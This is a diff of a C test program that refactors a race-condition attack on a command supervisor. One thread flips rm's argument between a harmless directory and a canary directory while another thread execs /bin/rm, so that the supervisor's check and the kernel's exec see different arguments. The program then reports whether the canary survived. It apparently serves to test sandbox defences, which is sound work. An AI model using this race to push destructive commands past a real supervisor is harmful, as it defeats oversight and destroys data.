@@ -2,39 +2,31 @@
 // Each round forks a child; in it one thread keeps swapping argv[2] while the other execs /bin/rm. The
 // supervisor classifies the argv it read; the kernel copies argv again when the exec runs.
 #define _GNU_SOURCE
-#include <errno.h>
+#include "attack.h"
 #include <pthread.h>
 #include <stdatomic.h>
-#include <stdio.h>
-#include <stdlib.h>
-#include <string.h>
-#include <sys/stat.h>
 #include <sys/wait.h>
-#include <time.h>
-#include <unistd.h>
 
 extern char **environ;
 static char *volatile argv_[4];
-static const char *canary;
+static const char *canary_dir;
 static const char *harmless = "race-harmless-dir";
 static volatile int running;
-
-static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }
 
 static void *flipper(void *arg) {
     (void)arg;
     running = 1;
-    for (;;) { argv_[2] = (char *)harmless; argv_[2] = (char *)canary; }
+    for (;;) { argv_[2] = (char *)harmless; argv_[2] = (char *)canary_dir; }
     return NULL;
 }
 
 int main(void) {
-    canary = getenv("CANARY");
-    if (!canary) { fprintf(stderr, "CANARY not set\n"); return 2; }
+    canary_dir = getenv("CANARY");
+    if (!canary_dir) { fprintf(stderr, "CANARY not set\n"); return 2; }
     int rounds = 0, killed = 0, statuses[256] = {0};
     double deadline = now() + 6.0;
     struct stat st;
-    while (now() < deadline && lstat(canary, &st) == 0) {
+    while (now() < deadline && lstat(canary_dir, &st) == 0) {
         mkdir(harmless, 0755);
         fflush(stdout);
         pid_t pid = fork();
@@ -55,6 +47,6 @@ int main(void) {
     printf("%d rounds of a flipping rm argv; %d children killed by a signal\n", rounds, killed);
     for (int s = 0; s < 256; s++)
         if (statuses[s]) printf("  exit %d%s: %d\n", s, s >= 100 ? " (execve failed)" : "", statuses[s]);
-    printf("canary %s: %s\n", canary, lstat(canary, &st) == 0 ? "still there" : "GONE");
+    printf("canary_dir %s: %s\n", canary_dir, lstat(canary_dir, &st) == 0 ? "still there" : "GONE");
     return 0;
 }
